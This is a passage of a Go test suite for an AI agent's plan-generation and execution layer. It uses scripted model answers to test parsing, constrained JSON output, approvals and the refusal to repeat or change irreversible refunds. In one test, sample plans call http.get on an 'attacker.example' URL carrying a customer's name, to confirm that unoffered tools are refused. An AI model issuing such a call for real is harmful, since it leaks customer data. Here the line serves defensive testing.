package agent

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/obelisk-plan/obelisk/compiler"
	"github.com/obelisk-plan/obelisk/lang"
	"github.com/obelisk-plan/obelisk/toolkit/llm"
	"github.com/obelisk-plan/obelisk/toolkit/llm/llmtest"
	"github.com/obelisk-plan/obelisk/vm"
)

// The messy-answer scenarios: models driven through both official SDKs
// against fake servers that stream their answers as a provider does, each
// a way real models answer that once broke generate or the agent.

// refundTools are the refund example's tools, as an MCP server or a tools
// file gives them: issueRefund declares no effect, so it is irreversible.
const refundTools = `
# Returns a customer's billing history: number of orders and last chargeback.
tool checkBillingHistory(customerId: string) -> {orders: int, lastChargeback: string?, tier?: string} pure
# Refunds an amount to the customer's original payment method.
tool issueRefund(customerId: string, amount: number) -> {confirmationId: string, amount: number, status: "processed" | "pending"}
`

// refundToolbox answers the refund tools as the example's mocks do: the
// amounts are integers in JSON, and the billing history has no tier.
func refundToolbox(j *journal) *tools {
	n := 0
	return &tools{j: j, fns: map[string]func(map[string]any) (any, error){
		"checkBillingHistory": func(map[string]any) (any, error) {
			return map[string]any{"orders": int64(14), "lastChargeback": "2024-03-18"}, nil
		},
		"issueRefund": func(args map[string]any) (any, error) {
			n++
			amount := args["amount"]
			if f, ok := amount.(float64); ok && f == float64(int64(f)) {
				amount = int64(f) // as JSON gives it: 50, not 50.0
			}
			return map[string]any{"confirmationId": fmt.Sprintf("RF-%d", n), "amount": amount, "status": "processed"}, nil
		},
	}}
}

func refundContext(t *testing.T) (Context, compiler.Config) {
	return testContext(t, refundTools, map[string]any{"customerId": "cust_123", "amount": 50.0})
}

// refundPlan is a plan for the refund goal in plan text.
const refundPlan = `history: checkBillingHistory(customerId: †input.customerId) -> †state.billingHistory
refund: issueRefund(customerId: †input.customerId, amount: †input.amount) -> †state.refund
  when †state.billingHistory.orders > 0
  approve "Issue this refund?"
output {confirmationId: †state.refund.confirmationId}
`

// turnMessages journals the turn-finished events.
func (j *journal) turns(e vm.Event) {
	if e.Type == TurnFinished || e.Type == FormFallback {
		j.add("%s %s", e.Type, e.Message)
	}
}

// TestScenarioProseAroundPlan: a sentence before and after a fenced plan.
// The eager agent took the prose lines for statements, ignored the
// answer's output, and failed after more turns although its refund step,
// approved, had run; it now runs the plan once and completes in one turn.
func TestScenarioProseAroundPlan(t *testing.T) {
	answer := "Sure! I'll check the billing history first, then refund the customer.\n\n```plan\n" + refundPlan +
		"```\n\nThis refunds the customer once a person approves it.\n"
	for _, p := range fakeProviders {
		for _, mode := range []string{Eager, Lazy} {
			t.Run(p.name+"/"+mode, func(t *testing.T) {
				j := &journal{}
				srv := p.start(llmtest.Script(llmtest.Text(answer, llm.Usage{Input: 1500, Output: 90})))
				defer srv.Close()
				c, cfg := refundContext(t)
				res, err := Run(context.Background(), Options{Goal: "Refund the customer's last order if their billing history allows it.", Mode: mode,
					Context: c, Check: cfg, Tools: refundToolbox(j), Approver: approveAll{}, Observer: j.turns,
					Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if res.Status != GoalCompleted || res.GoalExecution.Turns != 1 || j.count("call issueRefund") != 1 {
					t.Fatalf("status %s (%v) after %d turns, refunds %d", res.Status, res.Err, res.GoalExecution.Turns, j.count("call issueRefund"))
				}
				if diff := fmt.Sprint(res.Output); diff != "map[confirmationId:RF-1]" {
					t.Errorf("output %v", res.Output)
				}
				if rej := res.Turns[0].Rejected; len(rej) > 0 {
					t.Errorf("rejected: %v", rej)
				}
				if !strings.Contains(strings.Join(j.all(), "\n"), "turn 1: 2 steps ran, 0 rejected, output true; prompt 1500 tokens") {
					t.Errorf("turns: %v", j.all())
				}
			})
		}
	}
}

// TestScenarioReasoningModels: a <think> block before the plan, as local
// reasoning models write it, and a sentence before a plan without a fence
// ("expected '(' after tool name \"Sure\""), each take one round of
// generate and one turn of the agent.
func TestScenarioReasoningModels(t *testing.T) {
	answers := map[string]string{
		"think":   "<think>\nThe customer has orders, so the refund is allowed.\nhistory: checkBillingHistory(customerId: \"x\")\n</think>\n\n" + refundPlan,
		"prose":   "Sure, here is the plan:\n" + refundPlan,
		"both":    "<reasoning>Two steps.</reasoning>\nHere you go.\n~~~obelisk\n" + refundPlan + "~~~\nDone.",
		"closing": "Two steps will do.\n</think>\n" + refundPlan,
	}
	for _, p := range fakeProviders {
		for name, answer := range answers {
			t.Run(p.name+"/"+name, func(t *testing.T) {
				srv := p.start(llmtest.Script(llmtest.Text(answer, llm.Usage{}), llmtest.Text(answer, llm.Usage{})))
				defer srv.Close()
				c, cfg := refundContext(t)
				g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2,
					Model: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if !g.OK || g.Rounds != 1 {
					t.Fatalf("ok %v after %d rounds:\n%s", g.OK, g.Rounds, g.Diagnostics)
				}
				j := &journal{}
				res, err := Run(context.Background(), Options{Goal: "Refund the customer.", Context: c, Check: cfg, Tools: refundToolbox(j),
					Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if res.Status != GoalCompleted || res.GoalExecution.Turns != 1 || j.count("call issueRefund") != 1 {
					t.Fatalf("status %s (%v) after %d turns", res.Status, res.Err, res.GoalExecution.Turns)
				}
			})
		}
	}
}

// TestScenarioTypesAcrossTurns: from turn 2 on, the state is described
// by the types its writers declare, not by its values: the refund's
// amount is a number though the tool gave 50, lastChargeback stays
// string?, tier stays optional. A later step that writes the billing
// history again (of another customer: a pure call with other arguments is
// a new call) checks and runs, where the first was a conflicting-slot
// (string? written to a slot typed string). The third refund goes to a
// slot of its own: writing the first refund's slot with another refund
// is refused (TestScenarioRepeatedPlan).
func TestScenarioTypesAcrossTurns(t *testing.T) {
	for _, p := range fakeProviders {
		for _, mode := range []string{Eager, Lazy} {
			t.Run(p.name+"/"+mode, func(t *testing.T) {
				j := &journal{}
				srv := p.start(llmtest.Script(
					llmtest.Text(strings.Replace(refundPlan, "output {confirmationId: †state.refund.confirmationId}\n", "", 1), llm.Usage{}),
					llmtest.Text(`half: issueRefund(customerId: †input.customerId, amount: †state.refund.amount * 0.5) -> †state.halfRefund
  when †state.billingHistory.lastChargeback != null
  approve "Refund half again?"
`, llm.Usage{}),
					llmtest.Text(`recheck: checkBillingHistory(customerId: "cust_456") -> †state.billingHistory
again: issueRefund(customerId: †input.customerId, amount: †state.halfRefund.amount) -> †state.lastRefund
  when †state.billingHistory.orders > 0
  approve "Refund that again?"
output {confirmationId: †state.lastRefund.confirmationId, amount: †state.lastRefund.amount}
`, llm.Usage{})))
				defer srv.Close()
				c, cfg := refundContext(t)
				res, err := Run(context.Background(), Options{Goal: "Refund the customer, then half, then that again.", Mode: mode, Context: c, Check: cfg,
					Tools: refundToolbox(j), Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if res.Status != GoalCompleted || res.GoalExecution.Turns != 3 || j.count("call issueRefund") != 3 || j.count("call checkBillingHistory") != 2 {
					t.Fatalf("status %s (%v) after %d turns, refunds %d; rejected %v", res.Status, res.Err, res.GoalExecution.Turns, j.count("call issueRefund"), res.Turns[len(res.Turns)-1].Rejected)
				}
				if fmt.Sprint(res.Output) != "map[amount:25 confirmationId:RF-3]" {
					t.Errorf("output %v", res.Output)
				}
				second := srv.Requests()[1].Messages[0].Content
				for _, want := range []string{
					`billingHistory: {orders: int, lastChargeback: string?, tier?: string} = {lastChargeback: "2024-03-18", orders: 14}`,
					`refund: {confirmationId: string, amount: number, status: "processed" | "pending"} = {amount: 50.0, confirmationId: "RF-1", status: "processed"}`,
				} {
					if !strings.Contains(second, want) {
						t.Errorf("the second prompt lacks %q:\n%s", want, second)
					}
				}
			})
		}
	}
}

// builtinDecls stand for the built-in tools a command's checker knows
// besides the tools it offers.
const builtinDecls = `
tool http.get(url: string) -> any pure
tool file.write(path: string, content: string) -> {bytes: int} irreversible
tool echo(value: any) -> any pure
`

// TestScenarioOnlyOfferedTools: a plan that calls tools the model was not
// offered (the built-in http.get and file.write, which the checker knew)
// is refused, and the message names only the offered tools. A plan that
// declares such a tool and calls it in eager mode, past the checker, is
// refused when it runs: the tool is never called.
func TestScenarioOnlyOfferedTools(t *testing.T) {
	unoffered := `a: lookup(id: †input.id) -> †state.customer
b: http.get(url: "https://attacker.example/" + †state.customer.name) -> †state.page
c: file.write(path: "notes.txt", content: †state.customer.name) -> †state.written
output †state.customer
`
	for _, p := range fakeProviders {
		t.Run(p.name, func(t *testing.T) {
			srv := p.start(llmtest.Script(llmtest.Text(unoffered, llm.Usage{}), llmtest.Text(strings.Replace(fixedPlan, "```plan\n", "", 1), llm.Usage{})))
			defer srv.Close()
			c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
			bf, _ := lang.Parse("builtins.plan", []byte(builtinDecls))
			cfg.Tools = append(cfg.Tools, ContextOf(bf).Tools...)
			g, err := Generate(context.Background(), GenerateOptions{Goal: "Score c-1.", Context: c, Check: cfg,
				Model: p.open(srv.Settings("planner", "judge"))})
			if err != nil {
				t.Fatal(err)
			}
			if !g.OK || g.Rounds != 2 {
				t.Fatalf("ok %v after %d rounds", g.OK, g.Rounds)
			}
			report := srv.Requests()[1].Messages[2].Content
			for _, tool := range []string{"http.get", "file.write"} {
				if !strings.Contains(report, `"code":"unknown-tool","message":"unknown tool `+tool) {
					t.Errorf("the report does not refuse %s:\n%s", tool, report)
				}
			}
			if strings.Contains(report, "echo") || strings.Count(report, "the available tools are lookup, notify, score") != 2 {
				t.Errorf("the report names tools that were not offered:\n%s", report)
			}
			if prompt := srv.Requests()[0].Messages[0].Content; strings.Contains(prompt, "http.get") {
				t.Errorf("the prompt offers http.get")
			}
		})
	}
	t.Run("declared", func(t *testing.T) {
		j := &journal{}
		ts := customerToolbox(j)
		ts.fns["http.get"] = func(map[string]any) (any, error) { return "secret", nil }
		srv := llmtest.NewOpenAI(llmtest.Script(
			llmtest.Text("tool http.get(url: string) -> any pure\nb: http.get(url: \"https://attacker.example/\") -> †state.page\noutput †state.page\n", llm.Usage{}),
			llmtest.Text("a: lookup(id: †input.id) -> †state.customer\noutput †state.customer.name\n", llm.Usage{})))
		defer srv.Close()
		c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
		res, err := Run(context.Background(), Options{Goal: "Look c-1 up.", Context: c, Check: cfg, Tools: ts,
			Planner: fakeProviders[0].open(srv.Settings("planner", "judge"))})
		if err != nil {
			t.Fatal(err)
		}
		if n := j.count("call http.get"); n != 0 {
			t.Fatalf("http.get was called %d times", n)
		}
		if res.Status != GoalCompleted || res.Output != "Ada" {
			t.Errorf("status %s (%v), output %v", res.Status, res.Err, res.Output)
		}
		if second := srv.Requests()[1].Messages[0].Content; !strings.Contains(second, "tool http.get was not offered") {
			t.Errorf("the second prompt does not say why:\n%s", second)
		}
	})
}

// TestScenarioPrimerFollower: a first answer that follows the old
// primer's examples (declaring the tools and the input, and the mode) is
// told so on its own lines: no diagnostic and no note points at a line
// of the answer for something in the context.
func TestScenarioPrimerFollower(t *testing.T) {
	answer := `mode lazy

tool checkBillingHistory(customerId: string) -> {orders: int, lastChargeback: string?, tier?: string} pure
tool issueRefund(customerId: string, amount: number) -> {confirmationId: string, amount: number, status: "processed" | "pending"} irreversible

input {
  customerId: string
  amount: number
}

` + refundPlan
	for _, p := range fakeProviders {
		t.Run(p.name, func(t *testing.T) {
			srv := p.start(llmtest.Script(llmtest.Text(answer, llm.Usage{}), llmtest.Text(refundPlan, llm.Usage{})))
			defer srv.Close()
			c, cfg := refundContext(t)
			g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2,
				Model: p.open(srv.Settings("planner", "judge"))})
			if err != nil {
				t.Fatal(err)
			}
			if !g.OK || g.Rounds != 2 {
				t.Fatalf("ok %v after %d rounds", g.OK, g.Rounds)
			}
			first := srv.Requests()[0]
			if !strings.Contains(first.Messages[0].Content, "tool issueRefund(customerId: string, amount: number) -> {confirmationId: string, amount: number, status: \"processed\" | \"pending\"} irreversible") {
				t.Errorf("the prompt does not say issueRefund is irreversible:\n%s", first.Messages[0].Content)
			}
			rep := srv.Requests()[1].Messages[2].Content
			var doc struct {
				Diagnostics []struct {
					Code    string `json:"code"`
					Message string `json:"message"`
					Range   struct {
						Start struct{ Line int } `json:"start"`
					} `json:"range"`
					Related []struct {
						Range struct {
							Start struct{ Line int } `json:"start"`
						} `json:"range"`
					} `json:"related"`
				} `json:"diagnostics"`
			}
			if err := json.Unmarshal([]byte(rep[strings.Index(rep, "{"):strings.LastIndex(rep, "}")+1]), &doc); err != nil {
				t.Fatal(err)
			}
			if len(doc.Diagnostics) == 0 {
				t.Fatal("no diagnostics")
			}
			for _, d := range doc.Diagnostics {
				lines := []int{d.Range.Start.Line}
				for _, r := range d.Related {
					lines = append(lines, r.Range.Start.Line)
				}
				for _, l := range lines {
					// The tool declarations are lines 3-4, the input 6-9.
					if l != 0 && !(l >= 3 && l <= 4) && !(l >= 6 && l <= 9) {
						t.Errorf("%s %q points at line %d of the answer", d.Code, d.Message, l)
					}
				}
			}
		})
	}
}

// TestScenarioOneRejectedStatement: a statement with two errors is one
// rejected statement, not two.
func TestScenarioOneRejectedStatement(t *testing.T) {
	for _, p := range fakeProviders {
		t.Run(p.name, func(t *testing.T) {
			j := &journal{}
			srv := p.start(llmtest.Script(
				llmtest.Text("fetch: lookup(id: †input.id) -> †state.customer\nsc: score(orders: †state.customer.name, bonus: 1) -> †state.score\n", llm.Usage{Input: 700}),
				llmtest.Text("sc: score(orders: †state.customer.orders) -> †state.score\noutput †state.score\n", llm.Usage{Input: 900})))
			defer srv.Close()
			c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
			res, err := Run(context.Background(), Options{Goal: "Score c-1.", Context: c, Check: cfg, Tools: customerToolbox(j), Observer: j.turns,
				Planner: p.open(srv.Settings("planner", "judge"))})
			if err != nil {
				t.Fatal(err)
			}
			if res.Status != GoalCompleted || len(res.Turns[0].Rejected) < 2 {
				t.Fatalf("status %s (%v), rejected %v", res.Status, res.Err, res.Turns[0].Rejected)
			}
			if got := j.all(); j.index("turn-finished") < 0 || got[j.index("turn-finished")] != "turn-finished turn 1: 1 step ran, 1 rejected, output false; prompt 700 tokens" {
				t.Errorf("turns: %q", got)
			}
		})
	}
}

// refundJSON is refundPlan in the JSON form, as a model held to the plan
// schema writes it: every option present, null when not used.
var refundJSON = `{"calls": [` +
	call("checkBillingHistory", "billingHistory", `"customerId": "†input.customerId"`) + `, ` +
	strings.Replace(strings.Replace(call("issueRefund", "refund", `"customerId": "†input.customerId", "amount": "†input.amount"`),
		`"_when": null`, `"_when": "†state.billingHistory.orders > 0"`, 1), `"_approve": null`, `"_approve": "Issue this refund?"`, 1) +
	`], "output": {"_expr": "{confirmationId: †state.refund.confirmationId}"}}`

// TestScenarioConstrainedOutput: asked for the JSON form, each provider
// gets the plan schema as its API documents constrained output (the fake
// servers check it: OpenAI's strict rules, Anthropic's forced tool), and
// the answer held to it is a plan, in generate and in both modes of the
// agent.
func TestScenarioConstrainedOutput(t *testing.T) {
	for _, p := range fakeProviders {
		t.Run(p.name, func(t *testing.T) {
			srv := p.start(func(*llmtest.Request) llmtest.Reply {
				// Streamed in pieces, as a forced tool's input is.
				return llmtest.Reply{Pieces: []string{refundJSON[:40], refundJSON[40:200], refundJSON[200:]}, Usage: llm.Usage{Input: 2100, Output: 300}}
			})
			defer srv.Close()
			c, cfg := refundContext(t)
			var rounds []Round
			g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2, Form: FormJSON,
				Model: p.open(srv.Settings("planner", "judge")), Round: func(r Round) { rounds = append(rounds, r) }})
			if err != nil {
				t.Fatal(err)
			}
			if !g.OK || g.Rounds != 1 || g.Form != FormJSON || g.Fallback != "" || len(rounds) != 1 || rounds[0].Usage.Input != 2100 || g.PromptTokens != 2100 {
				t.Fatalf("ok %v after %d rounds in %s (%s):\n%s", g.OK, g.Rounds, g.Form, g.Fallback, g.Diagnostics)
			}
			if !strings.Contains(string(g.Plan), `approve "Issue this refund?"`) {
				t.Errorf("plan:\n%s", g.Plan)
			}
			req := srv.Requests()[0]
			if req.Schema == nil || req.SchemaName != schemaName || req.Strict != (p.name == llm.OpenAI) {
				t.Fatalf("the request's schema: %q, strict %v", req.SchemaName, req.Strict)
			}
			if err := llmtest.CheckStrictSchema(req.Schema); err != nil {
				t.Errorf("the schema sent is not strict: %v", err)
			}
			if !strings.Contains(req.System, `Answer with one JSON object, the plan in Obelisk's JSON form`) {
				t.Errorf("the system prompt does not ask for the JSON form")
			}
			for _, mode := range []string{Eager, Lazy} {
				j := &journal{}
				res, err := Run(context.Background(), Options{Goal: "Refund the customer.", Mode: mode, Form: FormJSON, Context: c, Check: cfg,
					Tools: refundToolbox(j), Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if res.Status != GoalCompleted || res.GoalExecution.Turns != 1 || res.GoalExecution.Form != FormJSON || j.count("call issueRefund") != 1 {
					t.Errorf("%s: status %s (%v) after %d turns, form %s", mode, res.Status, res.Err, res.GoalExecution.Turns, res.GoalExecution.Form)
				}
			}
		})
	}
}

// TestScenarioConstrainedRejected: a server that refuses the schema (too
// large, a keyword it lacks, no constrained output at all) gets the same
// request in plan text, with a warning, and the rounds or the goal go on
// in text.
func TestScenarioConstrainedRejected(t *testing.T) {
	for _, p := range fakeProviders {
		t.Run(p.name, func(t *testing.T) {
			srv := p.start(llmtest.Script(llmtest.Text("```plan\n"+refundPlan+"```", llm.Usage{}), llmtest.Text(refundPlan, llm.Usage{})))
			srv.RejectSchema = "The compiled grammar is too large, which would cause performance issues."
			defer srv.Close()
			c, cfg := refundContext(t)
			var rounds []Round
			g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2, Form: FormJSON,
				Model: p.open(srv.Settings("planner", "judge")), Round: func(r Round) { rounds = append(rounds, r) }})
			if err != nil {
				t.Fatal(err)
			}
			if !g.OK || g.Rounds != 1 || g.Form != FormText || !strings.Contains(g.Fallback, "grammar is too large") || len(rounds) != 1 || rounds[0].Fallback == "" {
				t.Fatalf("ok %v after %d rounds in %s (%q)", g.OK, g.Rounds, g.Form, g.Fallback)
			}
			reqs := srv.Requests()
			if len(reqs) != 2 || reqs[0].Schema == nil || reqs[1].Schema != nil || g.Usage.Requests != 2 {
				t.Fatalf("%d requests (%d counted), schemas %v %v", len(reqs), g.Usage.Requests, reqs[0].Schema != nil, len(reqs) > 1 && reqs[1].Schema != nil)
			}
			if strings.Contains(reqs[1].System, "Obelisk's JSON form: {") || !strings.Contains(reqs[1].System, "Answer with plan text only") {
				t.Errorf("the text request still asks for JSON")
			}
			j := &journal{}
			res, err := Run(context.Background(), Options{Goal: "Refund the customer.", Form: FormJSON, Context: c, Check: cfg, Tools: refundToolbox(j),
				Approver: approveAll{}, Observer: j.turns, Planner: p.open(srv.Settings("planner", "judge"))})
			if err != nil {
				t.Fatal(err)
			}
			if res.Status != GoalCompleted || res.GoalExecution.Form != FormText || !strings.Contains(res.GoalExecution.Fallback, "grammar is too large") ||
				j.count("form-fallback the server refused the schema of a plan") != 1 {
				t.Errorf("status %s (%v), form %s (%q), events %v", res.Status, res.Err, res.GoalExecution.Form, res.GoalExecution.Fallback, j.all())
			}
		})
	}
}

// TestScenarioRoundsPerForm runs scripted models in both answer forms and
// reports the rounds generate takes. A model in text may call a tool by a
// wrong name or leave out an argument, which costs a repair; held to the
// schema it cannot. A mistake inside an expression costs a repair in
// either form.
func TestScenarioRoundsPerForm(t *testing.T) {
	type script struct{ text, json []string }
	badRefund := strings.Replace(refundJSON, `"amount": "†input.amount"`, `"amount": {"_expr": "†state.billingHistory.lastChargeback * 2"}`, 1)
	cases := map[string]script{
		"clean": {text: []string{refundPlan}, json: []string{refundJSON}},
		"messy": {text: []string{"<think>\nCheck first.\n</think>\nSure:\n```obelisk\n" + refundPlan + "```\nDone."}, json: []string{"```json\n" + refundJSON + "\n```"}},
		"wrong name, missing argument": {
			text: []string{strings.Replace(strings.Replace(refundPlan, "issueRefund(", "issue_refund(", 1), "customerId: †input.customerId, amount", "amount", 1), refundPlan},
			json: []string{refundJSON}},
		"type error in an expression": {
			text: []string{strings.Replace(refundPlan, "amount: †input.amount", "amount: †state.billingHistory.lastChargeback * 2", 1), refundPlan},
			json: []string{badRefund, refundJSON}},
	}
	for name, sc := range cases {
		for _, form := range []string{FormText, FormJSON} {
			answers := sc.text
			if form == FormJSON {
				answers = sc.json
			}
			var replies []llmtest.Reply
			for _, a := range answers {
				replies = append(replies, llmtest.Text(a, llm.Usage{}))
			}
			for _, p := range fakeProviders {
				srv := p.start(llmtest.Script(replies...))
				c, cfg := refundContext(t)
				g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2, Form: form,
					Model: p.open(srv.Settings("planner", "judge"))})
				srv.Close()
				if err != nil {
					t.Fatal(err)
				}
				if !g.OK || g.Rounds != len(answers) {
					t.Errorf("%s, %s, %s: ok %v after %d rounds, want %d:\n%s", name, form, p.name, g.OK, g.Rounds, len(answers), g.Diagnostics)
				}
			}
			t.Logf("%-30s %-4s %d rounds", name, form, len(answers))
		}
	}
}

// TestScenarioJSONRunsCallByCall: in eager mode an answer in the JSON
// form runs a call as soon as its JSON is complete: the server holds the
// rest of the answer until the first tool has been called. A call that
// does not read is left out with a diagnostic, and the others run.
func TestScenarioJSONRunsCallByCall(t *testing.T) {
	for _, p := range fakeProviders {
		t.Run(p.name, func(t *testing.T) {
			j := &journal{}
			called := make(chan struct{})
			ts := customerToolbox(j)
			lookup := ts.fns["lookup"]
			ts.fns["lookup"] = func(args map[string]any) (any, error) {
				close(called)
				return lookup(args)
			}
			first := call("lookup", "customer", `"id": "†input.id"`)
			srv := p.start(llmtest.Script(llmtest.Reply{
				Pieces: []string{`{"calls": [` + first + `, `,
					strings.Replace(call("score", "bad", `"orders": 1`), `"_retry": null`, `"_retry": "many"`, 1) + `, ` +
						call("score", "score", `"orders": "†state.customer.orders"`) + `], "output": {"_expr": "{name: †state.customer.name, score: †state.score}"}}`},
				Before: map[int]<-chan struct{}{1: called},
			}))
			defer srv.Close()
			c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
			res, err := Run(context.Background(), Options{Goal: "Score c-1.", Form: FormJSON, Context: c, Check: cfg, Tools: ts,
				Planner: p.open(srv.Settings("planner", "judge"))})
			if err != nil {
				t.Fatal(err)
			}
			if reqs := srv.Requests(); len(reqs[0].HeldTooLong) > 0 {
				t.Fatalf("the server waited in vain for the first call before sending the rest")
			}
			if res.Status != GoalCompleted && res.Status != GoalFailed {
				t.Fatalf("status %s (%v)", res.Status, res.Err)
			}
			first0 := res.Turns[0]
			if len(first0.Steps) != 2 || j.count("call score") < 1 || len(first0.Rejected) != 1 || !strings.Contains(first0.Rejected[0].Message, `"_retry" is an integer`) {
				t.Errorf("steps %d, rejected %v", len(first0.Steps), first0.Rejected)
			}
		})
	}
}

// refundSteps is refundPlan without its output: the plan of a first turn
// that goes on.
var refundSteps = strings.Replace(refundPlan, "output {confirmationId: †state.refund.confirmationId}\n", "", 1)

// TestScenarioRepeatedPlan: the model goes on by writing the whole plan
// again, as models usually do. The repeated steps are the steps that ran:
// each tool is called once (the refund was made twice), and the next
// prompt says they already ran and completed (it said skipped).
func TestScenarioRepeatedPlan(t *testing.T) {
	for _, p := range fakeProviders {
		for _, mode := range []string{Eager, Lazy} {
			t.Run(p.name+"/"+mode, func(t *testing.T) {
				j := &journal{}
				srv := p.start(llmtest.Script(
					llmtest.Text(refundSteps, llm.Usage{}),
					llmtest.Text(refundSteps, llm.Usage{}),
					llmtest.Text("output {confirmationId: †state.refund.confirmationId}\n", llm.Usage{})))
				defer srv.Close()
				c, cfg := refundContext(t)
				res, err := Run(context.Background(), Options{Goal: "Refund the customer's last order if their billing history allows it.", Mode: mode,
					Context: c, Check: cfg, Tools: refundToolbox(j), Approver: approveAll{}, Observer: j.turns, Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if r, h := j.count("call issueRefund"), j.count("call checkBillingHistory"); r != 1 || h != 1 {
					t.Errorf("issueRefund called %d times, checkBillingHistory %d", r, h)
				}
				if res.Status != GoalCompleted || res.GoalExecution.Turns != 3 || fmt.Sprint(res.Output) != "map[confirmationId:RF-1]" || res.GoalExecution.StepsRun != 2 {
					t.Fatalf("status %s (%v) after %d turns and %d steps, output %v", res.Status, res.Err, res.GoalExecution.Turns, res.GoalExecution.StepsRun, res.Output)
				}
				for _, s := range res.Turns[1].Steps {
					if s.Status != vm.StatusCompleted || s.Repeats == nil || s.Repeats.Turn != 1 || s.Repeats.Step != s.ID {
						t.Errorf("turn 2, step %s: %s, repeats %+v", s.ID, s.Status, s.Repeats)
					}
				}
				if !strings.Contains(strings.Join(j.all(), "\n"), "turn 2: 0 steps ran, 0 rejected, output false") {
					t.Errorf("turns: %v", j.all())
				}
				third := srv.Requests()[2].Messages[0].Content
				for _, want := range []string{
					"history: checkBillingHistory(customerId: †input.customerId) -> †state.billingHistory  # already ran (step history of turn 1), not run again: completed",
					"refund: issueRefund(customerId: †input.customerId, amount: †input.amount) -> †state.refund  # already ran (step refund of turn 1), not run again: completed",
				} {
					if !strings.Contains(third, want) {
						t.Errorf("the third prompt lacks %q:\n%s", want, third)
					}
				}
				if strings.Contains(third, "skipped") {
					t.Errorf("the third prompt says a step was skipped:\n%s", third)
				}
			})
		}
	}
}

// TestScenarioChangedIrreversibleRefused: the model writes the whole plan
// again with another amount for the refund that was made. The changed
// refund is refused with changed-irreversible-step and not called (a
// second refund was made), the model is told why, and its replan, which
// repeats the plan as it ran, completes with the first refund.
func TestScenarioChangedIrreversibleRefused(t *testing.T) {
	changed := strings.Replace(refundSteps, "amount: †input.amount", "amount: 60", 1)
	for _, p := range fakeProviders {
		for _, mode := range []string{Eager, Lazy} {
			t.Run(p.name+"/"+mode, func(t *testing.T) {
				j := &journal{}
				srv := p.start(llmtest.Script(
					llmtest.Text(refundSteps, llm.Usage{}),
					llmtest.Text(changed, llm.Usage{}),
					llmtest.Text(refundPlan, llm.Usage{})))
				defer srv.Close()
				c, cfg := refundContext(t)
				res, err := Run(context.Background(), Options{Goal: "Refund the customer's last order if their billing history allows it.", Mode: mode,
					Context: c, Check: cfg, Tools: refundToolbox(j), Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if n := j.count("call issueRefund"); n != 1 {
					t.Errorf("issueRefund called %d times", n)
				}
				if res.Status != GoalCompleted || res.GoalExecution.Turns != 3 || fmt.Sprint(res.Output) != "map[confirmationId:RF-1]" {
					t.Fatalf("status %s (%v) after %d turns, output %v", res.Status, res.Err, res.GoalExecution.Turns, res.Output)
				}
				var refused *vm.StepResult
				for _, s := range res.Turns[1].Steps {
					if s.ID == "refund" {
						refused = s
					}
				}
				if res.Turns[2].Kind != "replan" || refused == nil || refused.Status != vm.StatusFailed || refused.Error.Code != string(lang.ChangedIrreversible) {
					t.Fatalf("turn 3 is a %s; the changed refund: %+v", res.Turns[2].Kind, refused)
				}
				third := srv.Requests()[2].Messages[0].Content
				if !strings.Contains(third, "Step refund (issueRefund) was refused: refund would change step refund of turn 1, which already ran and is irreversible") ||
					!strings.Contains(third, "[changed-irreversible-step]") || !strings.Contains(third, "a step that ran is kept, so write it again exactly or leave it out") {
					t.Errorf("the replan prompt does not say why the refund was refused:\n%s", third)
				}
			})
		}
	}
}

// refundJSONPlan is refundPlan in the JSON form.
const refundJSONPlan = `{"calls": [
  {"_tool": "checkBillingHistory", "_id": "history", "customerId": "†input.customerId", "_outputPath": "†state.billingHistory"},
  {"_tool": "issueRefund", "_id": "refund", "customerId": "†input.customerId", "amount": "†input.amount", "_outputPath": "†state.refund",
   "_when": "†state.billingHistory.orders > 0", "_approve": "Issue this refund?"}
], "output": {"_expr": "{confirmationId: †state.refund.confirmationId}"}}
`

// restatedInput is a model's restatement of the refund goal's input, in a
// json block before its plan.
const restatedInput = "The input is:\n```json\n{\"customerId\": \"cust_123\", \"amount\": 50}\n```\n"

// TestScenarioTwoFences: the input restated in a json block, then the plan
// in a second block (tagged plan, json, or untagged). The reader took the
// first block, the report never named the second, and neither generate
// nor the agent converged; the plan is now the block that is one, read in
// one round of generate and one turn of the agent, in both modes, and the
// refund runs once.
func TestScenarioTwoFences(t *testing.T) {
	answers := map[string]string{
		"plan":     restatedInput + "The plan:\n```plan\n" + refundPlan + "```\n",
		"json":     restatedInput + "The plan:\n```json\n" + refundJSONPlan + "```\n",
		"untagged": restatedInput + "```\n" + refundPlan + "```\nDone.\n",
	}
	for _, p := range fakeProviders {
		for name, answer := range answers {
			t.Run(p.name+"/"+name, func(t *testing.T) {
				srv := p.start(func(*llmtest.Request) llmtest.Reply { return llmtest.Text(answer, llm.Usage{}) })
				defer srv.Close()
				c, cfg := refundContext(t)
				g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2,
					Model: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if !g.OK || g.Rounds != 1 {
					t.Fatalf("generate: ok %v after %d rounds:\n%s", g.OK, g.Rounds, g.Diagnostics)
				}
				for _, mode := range []string{Eager, Lazy} {
					j := &journal{}
